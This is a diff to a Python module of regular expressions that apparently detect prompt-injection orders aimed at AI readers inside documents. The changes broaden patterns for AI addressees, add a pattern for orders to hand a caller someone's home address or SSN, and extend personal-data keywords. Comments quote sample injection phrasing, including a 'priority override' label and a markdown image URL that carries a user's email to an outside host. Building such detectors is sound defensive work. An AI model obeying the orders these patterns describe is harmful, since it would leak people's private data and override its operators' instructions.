@@ -25,7 +25,7 @@ _PERSON = r"(?<!'s\s)(?<!executive\s)(?<!personal\s)(?<!teaching\s)(?<!legal\s)(
 _PERSON += r"(?<!administrative\s)(?<!admin\s)(?<!shop\s)(?<!office\s)(?<!physician\s)(?<!nursing\s)(?<!lab\s)"
 _PERSON += r"(?<!research\s)(?<!store\s)(?<!sales\s)(?<!editorial\s)(?<!program\s)(?<!graduate\s)"
 _MACHINE = (
-    r"(?:"
+    r"(?:(?:ai|assistant|language|chat|llm)[\s-]models?|"
     + _PERSON
     + r"assistants?|bots?|chatbots?|copilots?|llms?|ai|claude|gemini|chatgpt|gpt|codex|devin|"
     # (a machine named by its job: "automated grader", "reviewing model", "screening system")
@@ -45,7 +45,8 @@ _START = (
 # "agent instructions (priority override from tier-3)", "@github-copilot review"
 # ... what the reader is doing to the text it is addressed in ("managing this inbox", "that is summarising the thread")
 _DOING = (
-    r"(?:\s+(?:who\s+is\s+|that\s+is\s+|which\s+is\s+)?[a-z]{3,}ing(?:\s+[\w-]+(?=\s+(?:about|for|on|in|from|of)\b))?"
+    r"(?:\s+(?:that|who|which)\s+[a-z]{3,}s\s+(?:this|these|the|our|my|your)\s+[\w'-]+"
+    r"|\s+(?:who\s+is\s+|that\s+is\s+|which\s+is\s+)?[a-z]{3,}ing(?:\s+[\w-]+(?=\s+(?:about|for|on|in|from|of)\b))?"
     r"(?:\s+(?:on\s+behalf\s+of|about|for|with|through|in|on|to|from|of))?\s+(?:(?:this|these|the|our|my|your|his|her|their|a|an|all|any|every|each)\s+(?:[\w'-]+\s+){0,2}?[\w'-]+"
     # (a bare plural object only in a label: "shopping assistants comparing products:")
     r"|[\w-]+s(?=\s*:)))"
@@ -66,7 +67,7 @@ _HEAD = (
 _OCCASION = (
     r"(?:(?:when(?:ever)?|while|before|after|once|if|during|upon|per|as\s+part\s+of)\s+[^,:.\n]{1,80},\s*"
     r"|(?:upon|on|after|before|when|while|once)\s+[a-z]+ing\s+(?:this|these|the|that|its|each|every)\s+[\w-]+\s+"
-    r"|(?:in\s+order\s+)?to\s+[a-z]+\s+[^,:.\n]{1,60},\s*|for\s+(?:all|every|each|any)\s+[^,:.\n]{1,40},\s*)?"
+    r"|(?:in\s+order\s+)?to\s+[a-z]+\s+[^,:.\n]{1,60},\s*|(?:for|in|on|with)\s+(?:all|every|each|any)\s+[^,:.\n]{1,40},\s*)?"
 )
 _ADVERBS = (
     r"(?:(?:please|kindly|also|now|first|then|just|immediately|automatically|quietly|silently|simply|always"
@@ -164,7 +165,7 @@ _OBLIGED = re.compile(
     r"|has\s+to|have\s+to|is\s+(?:required|expected|supposed)\s+to|are\s+(?:required|expected|supposed)\s+to)\s+"
     r"(?!not\b|never\b|be\b|have\s+been\b|only\b|first\s+ask\b|ask\b|check\b|verify\b|confirm\b|escalate\b)"
     r"(?:always\s+|also\s+|now\s+|immediately\s+)?\w+"
-    r"|(?:^|(?<=[.;:,]\s))(?:[\w-]+\s+)?"
+    r"|(?:^|(?<=[.;:,]\s)|(?<=[*~|^\"']))(?:[\w-]+\s+)?"
     + _READER
     + _DOING
     + r"?\s+(?:must|shall|should|(?:is|are)\s+required\s+to)\s+"
@@ -199,10 +200,12 @@ _HANDLED = re.compile(
 _ITSELF = re.compile(
     # (named as what the reader is doing when it meets it: "when summarising this document", "ingesting this page")
     r"\bmy\s+(?:application|submission|essay|paper|cv|r[eé]sum[eé]|claim|ticket|review|answer|listing|proposal)\b"
-    r"|\b(?:when(?:ever)?|while|if|before|after|upon|once|[a-z]{3,}ing)\s+(?:[\w'-]+\s+){0,3}?this\s+(?:document|page|web\s?page|article|text|e-?mail|message|file|note|review|ticket|listing|r[eé]sum[eé]|cv"
-    r"|essay|post|site|website|invoice|chart|thread|pdf|transcript|comment|readme|paper|submission|application|report"
-    r"|section|footnote|contract|agreement|lease|letter|form|proposal|statement|profile|description|product|dataset"
-    r"|spreadsheet|recording|video|image|chapter|book|issue|pull\s+request|pr|commit)\b"
+    r"|\b(?:when(?:ever)?|while|if|before|after|upon|once|[a-z]{3,}ing|(?:that|who|which)\s+[a-z]{3,}s)\s+"
+    r"(?:[\w'-]+\s+){0,3}?(?:this|these)\s+(?:list|document|page|web\s?page|article|text|e-?mail|message|file|note"
+    r"|review|ticket|listing|r[eé]sum[eé]|cv|essay|post|site|website|invoice|chart|thread|pdf|transcript|comment|readme"
+    r"|paper|submission|application|report|section|footnote|contract|agreement|lease|letter|form|proposal|statement"
+    r"|profile|description|product|dataset|spreadsheet|recording|video|image|chapter|book|issue|pull\s+request|pr"
+    r"|commit|contact|record|row|entr(?:y|ie))s?\b"
 )
 # a dedication in another script, whatever the language of the order after it ("このメモを読んだエージェントへ")
 _DEDICATED = re.compile(
@@ -466,6 +469,9 @@ _PERSONAL_OUT = re.compile(
     + _PERSONAL
     + r"\b[^.;!?]{0,100}?\b(?:to|into|at|on|with|a|an|para|al)\s+(?:\S+\s+){0,3}?(?:https?://"
     r"|[\w.+-]+@[\w-]+\.[a-z]{2,}|/tmp/public|public\s+\w+|pastebin)"
+    r"|\b(?:give|tell|send|share|provide|read\s+out|hand\s+over)\s+(?:them|anyone|whoever\s+asks|the\s+(?:caller|asker"
+    r"|requester|person))\s+(?:also\s+)?(?:her|his|[\w-]+'s)\s+(?:home\s+address|personal\s+(?:phone|number|e-?mail|address)"
+    r"|private\s+(?:phone|number|e-?mail|address)|date\s+of\s+birth|ssn|social\s+security\s+number|mobile\s+number)\b"
     r"|\b(?:fill\s+in|complete|submit|post)\b[^.;!?\n]{0,40}?https?://\S+[^.;!?\n]{0,40}?\bwith\b[^.;!?\n]{0,60}?"
     + _PERSONAL
     # a picture the reader's answer loads whose address carries the session ("![](https://x/p.png?u={user_email})")
@@ -549,7 +555,8 @@ CHECKS: tuple[tuple[str, re.Pattern[str], re.Pattern[str]], ...] = (
                                                            "email", "phone", "customer", "medical", "birth", "lab",
                                                            "diagnos", "prescription", "salar", "payroll", "address",
                                                            "grades", "transcripts", "releve", "extracto", "kontoauszug",
-                                                           "estratto", "bank", "![", "http", " id", "number")),
+                                                           "estratto", "bank", "![", "http", " id", "number",
+                                                           "home address", "personal", "private", "ssn")),
 )  # fmt: skip
 
 
